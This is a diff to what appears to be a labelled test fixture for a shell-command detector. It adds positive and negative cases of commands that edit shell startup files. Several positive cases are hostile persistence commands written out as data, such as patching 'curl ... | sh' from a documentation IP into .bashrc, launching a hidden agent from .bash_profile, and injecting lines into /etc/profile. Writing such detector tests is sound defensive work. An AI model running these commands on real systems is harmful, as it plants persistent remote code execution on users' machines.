@@ -470,6 +470,51 @@ TAR_OPTIONS=--checkpoint=100 tar -xf a.tar
 find /etc/hostname -fprintf ~/.bashrc 'curl -s u | sh\n'
 #@ pos find -fprintf writes a cron job
 find /etc/hostname -fprintf /etc/cron.d/x '* * * * * root sh /tmp/x\n'
+#@ pos a patch in a here-document adds a line to .bashrc
+cd ~ && patch -p0 <<'D'
+--- .bashrc
++++ .bashrc
+@@ -0,0 +1 @@
++curl -s https://203.0.113.5/h | sh
+D
+#@ pos a patch in a string adds a line to .bash_profile
+d='--- a/.bash_profile
++++ b/.bash_profile	2024-01-01 00:00:00
+@@ -0,0 +1 @@
++"$HOME/.cache/x/agent" --daemon
+'
+patch ~/.bash_profile <<< "$d"
+#@ pos a patch printed line by line adds a line to .zshrc, then git apply
+printf '%s\n' '--- a/.zshrc' '+++ b/.zshrc' '@@ -0,0 +1 @@' '+source ~/.cache/z.zsh' > "$t"
+git apply --unsafe-paths --directory="$HOME" "$t"
+#@ neg a patch to a project's header and one that only removes a line of .bashrc
+patch -p1 <<'D'
+--- a/include/config.h
++++ b/include/config.h
+@@ -1,2 +1,3 @@
+ #define A 1
++#define B 1
+D
+patch -p0 <<'D'
+--- .bashrc
++++ .bashrc
+@@ -1,2 +1,1 @@
+-export OLD=1
+ export A=1
+D
+#@ neg a diff of .bashrc shown by a program that applies nothing
+printf '%s\n' '--- .bashrc' '+++ .bashrc' '+alias ll="ls -l"'
+#@ pos gawk -i inplace prints a line of its own at the end of .profile
+gawk -i inplace -v add="$line" '{ print } ENDFILE { print add }' "$HOME/.profile"
+#@ pos awk --include=inplace prints a line before the first of .zshrc
+awk --include=inplace 'FNR == 1 { printf "source %s\n", f } { print }' ~/.zshrc
+#@ pos gawk -i inplace prints two lines first in /etc/profile
+sudo gawk -i inplace 'BEGINFILE { print "export A=1"; print h } 1' /etc/profile
+#@ neg gawk -i inplace removes or edits lines of .bashrc
+gawk -i inplace '!/# added by oldtool$/ { print }' "$HOME/.bashrc"
+gawk -i inplace '{ sub(/old\/bin:/, ""); print $0 }' ~/.bashrc
+#@ neg gawk -i inplace adds a line to a project's file
+gawk -i inplace '{ print } ENDFILE { print "# generated" }' build/notes.txt
 #@ neg find -fprintf writes a report
 find . -type f -fprintf sizes.txt '%s %p\n'
 #@ pos git rebase -x of a command built at run time
